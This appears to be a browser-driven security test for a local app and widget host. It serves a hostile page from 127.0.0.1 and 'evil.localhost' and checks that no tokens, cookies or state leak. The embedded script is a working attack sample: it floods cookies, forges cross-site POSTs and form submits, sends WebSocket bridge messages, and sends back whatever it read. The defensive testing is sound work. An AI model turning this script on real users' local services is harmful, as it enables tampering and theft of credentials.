// The two pages are for the person alone: a server of someone else's on
// another loopback port, and its page open in the same browser, hear no
// credential of ours and change or read nothing. Which single requests the
// servers refuse, and why, the loopback server's corpus says; here a real
// browser makes them, cookies and fetch metadata included.
import assert from 'node:assert/strict';
import http from 'node:http';
import path from 'node:path';
import { test } from 'node:test';

import { Session, repoRoot, sampleReady } from './support.mjs';

const timeout = 90_000;

// What the hostile page does once loaded, against the origins in its query:
// it sets twenty cookies of a thousand bytes on its own host, then tries
// every way a page has to reach another site, and says it is done.
const hostilePage = `<!doctype html><html><body><iframe name="sink"></iframe><script>
(async () => {
  const query = new URLSearchParams(location.search);
  const app = query.get('app');
  const home = query.get('home');
  for (let i = 0; i < 20; i += 1) document.cookie = 'foreign' + i + '=' + 'x'.repeat(1000) + '; path=/';
  const load = (tag, attributes) => new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), attributes);
    element.onload = element.onerror = () => resolve();
    document.body.append(element);
  });
  const read = [];
  await Promise.all([
    load('img', { src: home + '/pictures/BrisklaneWidget-systemSmall/1.png' }),
    load('script', { src: app + '/_capacitor/plugin-headers.js' }),
    fetch(home + '/api/clock', { method: 'POST', mode: 'no-cors', body: '{"advanceMinutes":90}' }).catch(() => {}),
    fetch(home + '/api/state').then((response) => response.text()).then((text) => read.push(text), () => {}),
    ...[app + '/_capacitor/bridge', home + '/socket'].map((url) => new Promise((resolve) => {
      const socket = new WebSocket(url.replace(/^http/, 'ws'));
      socket.onmessage = (event) => read.push(String(event.data));
      socket.onopen = () => socket.send(JSON.stringify({ type: 'message', callbackId: '1', pluginId: 'SharedTodayWidget', methodName: 'set', options: { payload: '{"count":9}' } }));
      socket.onclose = socket.onerror = () => resolve();
      setTimeout(resolve, 3000);
    })),
  ]);
  const form = Object.assign(document.createElement('form'), { method: 'POST', action: home + '/api/reload', target: 'sink' });
  document.body.append(form);
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 500));
  await fetch('/done?read=' + encodeURIComponent(JSON.stringify(read)));
})();
</script></body></html>`;

// A server of someone else's: it serves the hostile page and logs every
// request it receives, headers and all.
async function hostileServer(t) {
  const log = [];
  const waiting = []; // the resolvers of next(), oldest first
  // Its own cookies come back with each of its requests: room for them.
  const server = http.createServer({ maxHeaderSize: 64 * 1024 }, (request, response) => {
    log.push({ url: request.url, headers: request.headers });
    if (request.url.startsWith('/done')) waiting.shift()?.(JSON.parse(new URL(request.url, 'http://x').searchParams.get('read')));
    response.writeHead(200, { 'Content-Type': 'text/html' });
    response.end(request.url.startsWith('/page') ? hostilePage : '');
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => new Promise((resolve) => server.close(resolve)));
  // What the next hostile page read, once it is done.
  const next = () => new Promise((resolve) => waiting.push(resolve));
  return { log, next, port: server.address().port };
}

test('no other loopback server hears our credentials, and a hostile page changes and reads nothing', { timeout }, async (t) => {
  const session = await Session.open(t);
  const host = await session.startHost();
  const app = await session.startApp();
  const home = await session.openPage(host.url);
  const page = await session.openPage(app.url);
  await sampleReady(page);
  await home.locator('.widget img[data-version]').first().waitFor({ state: 'attached' });
  const roundsBefore = host.lines.length;
  const summaryBefore = await session.todayPayload();

  // The hostile page knows the pages' origins, even the secret label: the
  // worst case. It runs from 127.0.0.1 and from a name of its own below localhost.
  const hostile = await hostileServer(t);
  const origins = `app=${encodeURIComponent(new URL(app.url).origin)}&home=${encodeURIComponent(new URL(host.url).origin)}`;
  for (const at of [`127.0.0.1:${hostile.port}`, `evil.localhost:${hostile.port}`]) {
    const finished = hostile.next();
    const evil = await session.openPage(`http://${at}/page?${origins}`);
    const read = await finished;
    assert.deepEqual(read, [], 'the hostile page read nothing of ours');
    await evil.close();
  }

  const tokens = [new URL(app.url).searchParams.get('token'), new URL(host.url).searchParams.get('token')];
  const heard = JSON.stringify(hostile.log);
  for (const token of tokens) assert.ok(!heard.includes(token), 'a token of ours reached the other server');
  assert.ok(!heard.includes('brisklane-token'), 'a cookie of ours reached the other server');

  const state = await home.evaluate(async () => (await fetch('/api/state')).json());
  assert.equal(state.clock.offsetSeconds, 0, 'the clock did not move');
  assert.equal(host.lines.length, roundsBefore, 'no round was asked for');
  assert.deepEqual(await session.todayPayload(), summaryBefore, 'the store is as it was');
  // The foreign cookies never reach our pages, so they cannot outgrow their headers.
  await page.reload();
  await sampleReady(page);

  // A token of an earlier run opens nothing, on the same port and name. The
  // device page goes first: its frame would load the new App, and so hand
  // this browser the new cookie.
  await home.close();
  await app.stop();
  const { port } = new URL(app.url);
  const again = await session.startApp(['--web-layer', 'browser', '--port', port, '--web-dir', path.join(repoRoot, 'web/www')]);
  assert.equal(new URL(again.url).origin, new URL(app.url).origin);
  assert.notEqual(new URL(again.url).searchParams.get('token'), tokens[0]);
  assert.equal((await page.goto(app.url)).status(), 403, "the earlier run's address");
  assert.equal((await page.goto(new URL(app.url).origin)).status(), 403, "the earlier run's cookie");
  assert.equal((await page.goto(again.url)).status(), 200);
});
